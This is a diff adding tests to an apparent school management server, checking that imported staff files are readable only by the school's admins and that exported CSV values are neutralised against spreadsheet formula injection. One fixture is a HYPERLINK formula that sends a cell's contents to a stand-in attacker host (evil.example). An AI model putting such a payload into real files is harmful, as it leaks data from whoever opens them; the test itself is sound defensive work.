@@ -28,6 +28,10 @@ def students_csv(rows, tag):
     return "\r\n".join(lines) + "\r\n"
 
 
+def csv_field(value):
+    return '"' + value.replace('"', '""') + '"'
+
+
 class TestTransfers(ServerTestCase):
     SERVER_ENV = {"ERP_SERVE_WORKERS": "2", "ERP_WORKER_POLL_MS": "20", "ERP_QUEUE_BACKOFF_MS": "50"}
 
@@ -81,6 +85,23 @@ class TestTransfers(ServerTestCase):
         numbers = {s["admissionNo"] for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
         self.assertFalse(any(n.startswith("BAD-") for n in numbers), "nothing imported")
 
+    def test_an_uploaded_import_is_read_by_admins_only(self):
+        # a staff file holds the new accounts' passwords: staff, who may not import, may not read it either
+        text = "email,displayName,roles,password\r\nnew.admin@example.org,New Admin,admin,Str0ng-Passw0rd!\r\n"
+        res = self.upload("staff", text)
+        self.finished(self.admin, res)
+        fid = res.json["fileId"]
+        self.assertEqual(self.admin.get(f"{FILES}/{fid}/content", expect=200).body.decode(), text)
+        if "admin2" not in self.A.users:
+            self.A.add_user("admin2", "admin")
+        self.A.client("admin2").get(f"{FILES}/{fid}", expect=200)  # another admin of the school
+        for role in ("staff", "teacher", "parent", "student"):
+            client = self.A.client(role)
+            client.get(f"{FILES}/{fid}", expect=404)
+            client.get(f"{FILES}/{fid}/content", expect=404)
+            client.get(f"{FILES}/{fid}/url", expect=404)
+        self.B.client("admin").get(f"{FILES}/{fid}", expect=404)
+
     def test_teachers_import(self):
         text = "employeeNo,firstName,lastName,email\r\nTT-1,Tam,Tutor,tam.tutor@example.org\r\n"
         report = self.finished(self.admin, self.upload("teachers", text))["result"]
@@ -132,6 +153,24 @@ class TestTransfers(ServerTestCase):
         for role in ("teacher", "parent", "student"):
             self.A.client(role).get(f"{FILES}/{fid}/content", expect=404)
         self.B.client("admin").get(f"{FILES}/{fid}/content", expect=404)
+
+    def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_again(self):
+        address = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+        text = (HEADER + ",address,phone\r\n"
+                + f"FRM-1,Ima,Porter,2014-03-01,Gia,Porter,g.frm@example.org,{csv_field(address)},+91 98765 43210\r\n"
+                + "FRM-2,Ida,Porter,2014-03-02,Gus,Porter,g2.frm@example.org,@SUM(1),\r\n")
+        self.assertTrue(self.finished(self.admin, self.upload("students", text))["result"]["imported"])
+        job = self.finished(self.admin, self.admin.get(f"{EXPORTS}/students"))
+        body = self.admin.get(f"{FILES}/{job['result']['fileId']}/content", expect=200).body.decode()
+        rows = {r["admissionNo"]: r for r in csv.DictReader(io.StringIO(body))}
+        self.assertEqual(rows["FRM-1"]["address"], "'" + address)
+        self.assertEqual(rows["FRM-1"]["phone"], "+91 98765 43210")  # a phone number stays as it is
+        self.assertEqual(rows["FRM-2"]["address"], "'@SUM(1)")
+        # the export imports again unchanged, and the values in the school are the ones typed
+        again = self.finished(self.admin, self.upload("students", body))["result"]
+        self.assertEqual((again["imported"], again["created"], again["updated"]), (True, 0, 0), again)
+        found = {s["admissionNo"]: s for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
+        self.assertEqual(self.admin.get(f"{STUDENTS}/{found['FRM-1']['id']}", expect=200).json["address"], address)
 
     def test_the_same_export_asked_twice_at_once_is_one_job(self):
         a = self.admin.get(f"{EXPORTS}/guardians", expect=202).json["jobId"]
